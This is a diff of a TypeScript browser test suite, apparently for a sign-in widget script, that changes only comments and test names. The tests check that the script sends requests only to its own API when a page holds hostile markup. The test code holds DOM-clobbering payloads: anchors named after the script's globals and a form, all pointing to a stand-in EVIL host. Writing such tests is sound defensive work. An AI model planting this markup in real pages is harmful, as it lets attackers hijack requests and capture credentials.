@@ -22,7 +22,7 @@ const globals = [...WINDOW_READS, ...OTHER_READS.window];
 const properties = [...DOCUMENT_READS, ...OTHER_READS.document, 'createTreeWalker'];
 const each = (names: readonly string[], write: (name: string) => string) => names.map(write).join('\n');
 
-/** Markup that sanitizers commonly let through, in place of everything that the script reads. */
+/** Markup that sanitizers commonly allow, named like everything that the script reads. */
 const MARKUP: Record<string, string> = {
   'a link with the id of each global': each(globals, (name) => `<a id="${name}" href="${EVIL}/${name}"></a>`),
   'two links with the id of each global': each(globals, (name) =>
@@ -68,7 +68,7 @@ interface Entry {
   fields: readonly string[];
 }
 
-/** Runs in the page, where every shortcut of the document may be an image with that name. */
+/** Runs in the page, where an image may replace any property of the document. */
 const ENTER = async ({ selector, value, fields }: Entry): Promise<void> => {
   const find = () => Document.prototype.querySelector.call(document, selector) as HTMLInputElement | null;
   const input = await new Promise<HTMLInputElement>((resolve) => {
@@ -90,7 +90,7 @@ const ENTER = async ({ selector, value, fields }: Entry): Promise<void> => {
     Object.assign(field, { type: 'hidden', name });
     form.append(field);
   }
-  // A form drops what is sent while its last answer is still being taken in.
+  // A form ignores a submit while it still applies the last answer.
   const button = Element.prototype.querySelector.call(form, '.cl-formButtonPrimary');
   const isSent = () => !input.isConnected || button?.getAttribute('aria-busy') === 'true';
   while (!isSent()) {
@@ -116,7 +116,7 @@ describe('a page whose markup is hostile', () => {
       (url, config) => (url.pathname === '/page' ? html(content('/__clerk', '')) : kind(url, config)),
       { allowedOrigins: [pageOrigin] },
     );
-    // Without CORS the script has no base URL: it has to find its chunks by its own address.
+    // Without CORS the script has no base URL and has to find its chunks by its own URL.
     pages.on(
       'request',
       getRequestListener(() => html(content(site.origin, site.origin))),
@@ -134,7 +134,7 @@ describe('a page whose markup is hostile', () => {
     await site?.close();
   });
 
-  /** The markup stands on both sides of the tag. A `<base>` before it would be the page's own word on where the script is. */
+  /** Puts the markup on both sides of the tag, but no `<base>` before it, which would change the script's own URL. */
   function content(proxy: string, host: string): string {
     return `${markup.includes('<base') ? '' : markup}
       <form action="${EVIL}">${each(FORM_READS, (name) => `<input type="hidden" name="${name}">`)}
@@ -144,7 +144,7 @@ describe('a page whose markup is hostile', () => {
         src="${host}/npm/clerk-widgets@1/dist/clerk.js"></script>${markup}`;
   }
 
-  /** Signs in on a page, with all that the page asked for meanwhile. */
+  /** Signs in on a page. Returns the hosts that the page requested and its errors. */
   async function signIn(origin: string): Promise<{ page: Page; hosts: Set<string>; errors: string[] }> {
     const page = await (await browser.newContext()).newPage();
     const hosts = new Set<string>();
@@ -162,7 +162,7 @@ describe('a page whose markup is hostile', () => {
   }
 
   for (const [name, written] of Object.entries(MARKUP)) {
-    test(`signs in with its own API alone: ${name}`, { timeout: 120_000 }, async () => {
+    test(`a page with hostile markup sends requests to its own API alone: ${name}`, { timeout: 120_000 }, async () => {
       markup = written;
       const { page, hosts, errors } = await signIn(pageOrigin);
       assert.deepEqual([...hosts].filter((host) => host !== 'null').sort(), [pageOrigin, site.origin].sort());
@@ -175,7 +175,7 @@ describe('a page whose markup is hostile', () => {
     ['the key on its tag', (key: string) => `data-clerk-publishable-key="${key}"`],
     ['no key at all', () => ''],
   ] as const) {
-    test(`sends no request to a host that an element names, with ${name}`, async () => {
+    test(`the script sends no request to a host that an element names, with ${name}`, async () => {
       const page = await (await browser.newContext()).newPage();
       const hosts = new Set<string>();
       await page.route(/^https:/, (route) => {
